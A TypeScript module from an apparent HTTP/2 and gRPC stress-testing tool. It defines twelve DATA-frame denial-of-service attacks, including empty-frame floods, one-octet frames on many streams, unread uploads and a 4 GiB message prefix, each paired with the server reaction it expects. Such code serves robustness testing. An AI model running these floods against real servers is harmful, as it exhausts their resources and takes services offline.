/** DATA that is mostly frame and hardly data, that is never read, or that promises more than it brings. RFC 9113 section 6.1. */
import { ANSWERED, type Attack, CALMED, LIVES, streamsReset, thrownOut } from "../attacker/attack.js";
import { type Round, WindowedFlood } from "../attacker/windowed-flood.js";
import { data, Flag, FrameType, frame, headers, rstStream } from "../frames/frame.js";
import { perStream, repeated } from "../frames/frame-batch.js";
import { requestBlock } from "../frames/header-block.js";
import { filled, message, prefix } from "../frames/message.js";
import { ECHO_BLOCK, IGNORE_BLOCK, onStreams, streamIds, UPLOAD_BLOCK } from "./requests.js";

const FRAME_BYTES = 16_384;
/** The largest message that the victim takes. */
const LARGEST_MESSAGE_BYTES = 4 * 1024 * 1024;
/** The shortest message: its prefix alone. */
const EMPTY_MESSAGE_BYTES = 5;

/** A frame full of empty messages. */
const TINY_MESSAGES = Buffer.concat(
  Array.from({ length: Math.floor(FRAME_BYTES / EMPTY_MESSAGE_BYTES) }, () => message()),
);
const MESSAGE_OF_A_FRAME = filled(FRAME_BYTES - 9, 3);
const FULL_PADDING = Buffer.alloc(256).fill(255, 0, 1);

/** `times` frames in a row. */
function times(count: number, octets: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => octets));
}

/** One frame of this payload in each round. */
function inFrames(payload: Buffer): Round {
  return { make: (streamId) => data(streamId, payload), bytes: payload.length, attempts: 1 };
}

const ONE_OCTET: Round = {
  make: (streamId) => times(50, data(streamId, Buffer.alloc(1))),
  bytes: 50,
  attempts: 50,
};

export const dataFrames: readonly Attack[] = [
  {
    name: "empty-data",
    about: "DATA with nothing in it (CVE-2019-9518)",
    expected: [CALMED],
    begin: (connection) => {
      connection.write(headers(1, UPLOAD_BLOCK));
      connection.flood(repeated(data(1)));
    },
  },
  {
    name: "padded-data",
    about: "DATA of 255 octets of padding and nothing else, within the windows",
    expected: [CALMED],
    begin: (connection) => {
      connection.write(headers(1, UPLOAD_BLOCK));
      const padded = times(16, frame(FrameType.DATA, Flag.PADDED, 1, FULL_PADDING));
      new WindowedFlood(connection, { make: () => padded, bytes: 16 * FULL_PADDING.length, attempts: 16 }).add(1);
    },
  },
  {
    name: "one-octet-data",
    about: "messages of 4 MiB in DATA of one octet each, on 100 streams",
    expected: [LIVES, CALMED],
    begin: (connection) => {
      const begun = prefix(LARGEST_MESSAGE_BYTES);
      connection.write(onStreams(100, (id) => Buffer.concat([headers(id, UPLOAD_BLOCK), data(id, begun)])));
      new WindowedFlood(connection, ONE_OCTET).add(...streamIds(100));
    },
  },
  {
    name: "one-octet-messages",
    about: "the prefix of each message in DATA of one octet each, on 100 streams",
    expected: [LIVES, CALMED],
    begin: (connection) => {
      connection.write(onStreams(100, (id) => headers(id, UPLOAD_BLOCK)));
      new WindowedFlood(connection, ONE_OCTET).add(...streamIds(100));
    },
  },
  {
    name: "tiny-messages",
    about: "3,276 empty messages in each frame, to a handler that reads them",
    expected: [LIVES],
    begin: (connection) => {
      connection.write(headers(1, UPLOAD_BLOCK));
      new WindowedFlood(connection, inFrames(TINY_MESSAGES)).add(1);
    },
  },
  {
    name: "unread-uploads",
    about: "1,000 streams with as much data as their windows take, to handlers that never read",
    expected: [LIVES],
    begin: (connection) => {
      connection.write(onStreams(1000, (id) => headers(id, IGNORE_BLOCK)));
      new WindowedFlood(connection, inFrames(MESSAGE_OF_A_FRAME)).add(...streamIds(1000));
    },
  },
  {
    name: "unread-tiny-messages",
    about: "the same with empty messages, which are larger in memory than on the wire",
    expected: [LIVES],
    begin: (connection) => {
      connection.write(onStreams(1000, (id) => headers(id, IGNORE_BLOCK)));
      new WindowedFlood(connection, inFrames(TINY_MESSAGES)).add(...streamIds(1000));
    },
  },
  {
    name: "promised-messages",
    about: "1,000 streams that announce a message of 4 MiB and send the first octet of it",
    expected: [LIVES],
    begin: (connection) => {
      const promise = Buffer.concat([prefix(LARGEST_MESSAGE_BYTES), Buffer.alloc(1)]);
      connection.write(
        onStreams(1000, (id) => Buffer.concat([headers(id, IGNORE_BLOCK), data(id, promise)])),
        1000,
      );
    },
  },
  {
    name: "oversized-prefix",
    about: "messages that say they have 4 GiB (CVE-2024-37168)",
    expected: [ANSWERED, CALMED],
    begin: (connection) =>
      connection.flood(perStream((id) => Buffer.concat([headers(id, ECHO_BLOCK), data(id, prefix(0xffffffff))]))),
  },
  {
    name: "data-beyond-window",
    about: "DATA that cares for no window",
    expected: [thrownOut("FLOW_CONTROL_ERROR", "ENHANCE_YOUR_CALM"), streamsReset("FLOW_CONTROL_ERROR")],
    begin: (connection) => {
      // Two messages: with one that waits to be read, the window is not opened again.
      connection.write(Buffer.concat([headers(1, IGNORE_BLOCK), data(1, Buffer.concat([message(), message()]))]));
      connection.flood(repeated(data(1, Buffer.alloc(FRAME_BYTES))));
    },
  },
  {
    name: "data-after-refusal",
    about: "DATA without an end on a call that the victim has ended already",
    expected: [LIVES, thrownOut("ENHANCE_YOUR_CALM", "FLOW_CONTROL_ERROR")],
    begin: (connection) => {
      connection.write(headers(1, requestBlock("NoSuchMethod")));
      connection.flood(repeated(data(1, Buffer.alloc(FRAME_BYTES))));
    },
  },
  {
    name: "data-on-reset-stream",
    about: "DATA of one octet on a stream that was reset",
    expected: [thrownOut("ENHANCE_YOUR_CALM", "STREAM_CLOSED", "FLOW_CONTROL_ERROR")],
    begin: (connection) => {
      connection.write(Buffer.concat([headers(1, IGNORE_BLOCK), rstStream(1)]));
      connection.flood(repeated(data(1, Buffer.alloc(1))));
    },
  },
];
